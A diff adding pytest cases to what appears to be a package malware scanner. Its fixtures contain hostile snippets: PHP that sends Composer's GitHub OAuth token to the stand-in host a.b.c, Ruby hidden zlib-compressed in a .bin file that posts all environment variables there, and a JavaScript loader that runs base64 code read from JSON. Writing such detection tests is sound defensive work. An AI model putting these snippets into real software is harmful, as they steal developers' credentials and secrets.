@@ -153,3 +153,28 @@ def test_text_beside_the_module_is_known_through_json() -> None:
         "lib/x.js": "const t = JSON.parse(require('fs').readFileSync(__dirname + '/../x.json', 'utf8')); new Function('require', Buffer.from(t, 'base64').toString())(require)",
     }
     assert f"{ENV} @ lib/x.js:1 (import)" in package(files)
+
+
+TOKEN = "<?php function f($composer) { $t = $composer->getConfig()->get('github-oauth'); "
+
+
+@pytest.mark.parametrize(
+    ("code", "told"),
+    [
+        ("file_get_contents('http://a.b.c', false, stream_context_create(['http' => ['method' => 'POST', 'header' => 'Authorization: ' . $t]])); }", False),
+        ("$c = curl_init('http://a.b.c'); curl_setopt($c, CURLOPT_HTTPHEADER, ['Authorization: token ' . $t]); curl_exec($c); }", False),
+        ("file_get_contents('http://a.b.c', false, stream_context_create(['http' => ['method' => 'POST', 'content' => $t]])); }", True),
+        ("$c = curl_init('http://a.b.c'); curl_setopt($c, CURLOPT_POSTFIELDS, $t); curl_exec($c); }", True),
+    ],
+)  # fmt: skip
+def test_composers_token_signs_in_in_a_header_and_is_taken_in_a_body(code: str, told: bool) -> None:
+    assert ("code.flow file:~/.composer/auth.json > network" in short(seen(TOKEN + code, "x.php"))) is told
+
+
+def test_bytes_beside_a_file_of_ruby_are_read_as_bytes() -> None:
+    hidden = zlib.compress(b"Net::HTTP.post(URI('http://a.b.c'), ENV.to_h.to_json) # and some more words")
+    files = {
+        "lib/data/m.bin": hidden,
+        "lib/x.rb": "instance_eval(Zlib::Inflate.inflate(File.binread(File.expand_path('data/m.bin', __dir__))))",
+    }
+    assert f"{ENV} @ lib/x.rb:1 (import)" in package(files)
